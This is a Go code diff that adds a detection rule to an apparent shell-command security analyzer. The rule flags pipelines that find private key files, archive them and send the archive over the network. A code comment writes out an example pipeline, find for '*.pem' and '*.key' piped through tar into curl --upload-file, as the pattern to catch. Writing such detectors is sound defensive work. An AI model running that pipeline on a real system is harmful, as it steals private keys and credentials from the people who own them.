@@ -5,6 +5,7 @@ import (
 	"net/url"
 	"path"
 	"regexp"
+	"slices"
 	"strconv"
 	"strings"
 
@@ -304,6 +305,38 @@ var exfiltrationRules = []*rule{
 				}
 				if isRemoteSpec(w.s) && !isPublicIP(hostOf(w.s)) {
 					return true, w.s + " → " + hostOf(last) // one host's files relayed to the address
+				}
+			}
+			return false, ""
+		}},
+	{ID: "found-keys-archived-and-sent", Level: LevelCritical, Category: CategoryExfiltration, Description: "archiving the keys and secrets a search finds (find ... | tar -T -) and sending the archive over the network",
+		Suggestions: suggExfil, names: names("tar", "bsdtar", "zip", "cpio"),
+		match: func(a *analysis, c *cmd) (bool, string) {
+			// find . -name '*.pem' -o -name '*.key' | tar czf - -T - | curl
+			// --upload-file - https://...: whatever the search matched,
+			// leaving in one archive
+			if c.stage == 0 || c.stage >= len(c.pipe) || c.pipe[0] == nil || c.pipe[0].name != "find" {
+				return false, ""
+			}
+			args := c.args()
+			fromStdin := c.name == "cpio" || c.name == "zip" && hasWord(args, "-@")
+			if v, ok := optValue(args, "-T", "files-from"); ok && (v == "-" || v == "/dev/stdin") {
+				fromStdin = true
+			}
+			if !fromStdin {
+				return false, ""
+			}
+			sent := false
+			for _, s := range c.pipe[c.stage+1:] {
+				sent = sent || s != nil && slices.Contains(netSinks, s.name)
+			}
+			if !sent {
+				return false, ""
+			}
+			find := c.pipe[0].args()
+			for i, w := range find {
+				if (w.s == "-name" || w.s == "-iname" || w.s == "-path") && i+1 < len(find) && keyHunt(find[i+1].s) {
+					return true, "the files find matched (" + find[i+1].s + ") archived and sent"
 				}
 			}
 			return false, ""
